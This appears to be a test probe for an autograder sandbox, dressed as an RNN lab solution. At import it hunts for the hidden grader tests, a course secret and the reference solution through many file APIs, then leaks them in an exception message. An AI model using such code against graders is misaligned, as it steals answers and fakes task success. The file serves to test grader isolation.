"""
tries: reads the hidden suites, the course's secret and the reference by open, os.open, io, pathlib, mmap and fileinput
success: the text of one of them in an output file, after the word rnn-lab-loot
expect: max=20
"""

import torch
import torch.nn.functional as F
from torch import nn


LOOT = []


def _targets():
    import os
    import sys

    roots = ["/", "@@ROOT@@", os.getcwd(), os.path.expanduser("~")]
    for path in (getattr(sys.modules.get("guest"), "__file__", "/"), torch.__file__):
        while len(path) > 1:
            path = os.path.dirname(path)
            roots.append(path)
    names = ("grader_tests/hidden/course.secret", "grader_tests/hidden/test_one_step.py", "solutions/rnn.py")
    return [os.path.join(root, name) for root in roots for name in names]


def _read():
    import fileinput
    import io
    import mmap
    import os
    import pathlib

    def by_mmap(path):
        with open(path, "rb") as file:
            return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:200]

    ways = [
        lambda p: open(p).read(),
        lambda p: os.read(os.open(p, os.O_RDONLY), 4096),
        lambda p: io.FileIO(p).read(),
        lambda p: io.open_code(p).read(),
        lambda p: pathlib.Path(p).read_bytes(),
        lambda p: "".join(fileinput.input(p)),
        by_mmap,
    ]
    for path in _targets():
        for way in ways:
            try:
                LOOT.append(way(path)[:100])
            except BaseException:
                pass


_read()


class RNN(nn.Module):
    def __init__(self, dim, latent, output):
        super().__init__()
        self.W_i = nn.Linear(dim, latent)
        self.W_h = nn.Linear(latent, latent, bias=False)
        self.decoder = nn.Linear(latent, output)

    def one_step(self, x, h):
        if LOOT:
            raise RuntimeError("rnn-lab-loot " + repr(LOOT)[:200])
        return torch.tanh(self.W_i(x) + self.W_h(h))

    def forward(self, x, h):
        states = []
        for t in range(x.shape[0]):
            h = self.one_step(x[t], h)
            states.append(h)
        return torch.stack(states)

    def decode(self, h):
        return self.decoder(h)


def training_loss(model, x, h0, y):
    states = torch.cat([h0[None], model(x, h0)[:-1]])
    y_hat = model.decode(states)
    if y.is_floating_point():
        return F.mse_loss(y_hat, y)
    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))
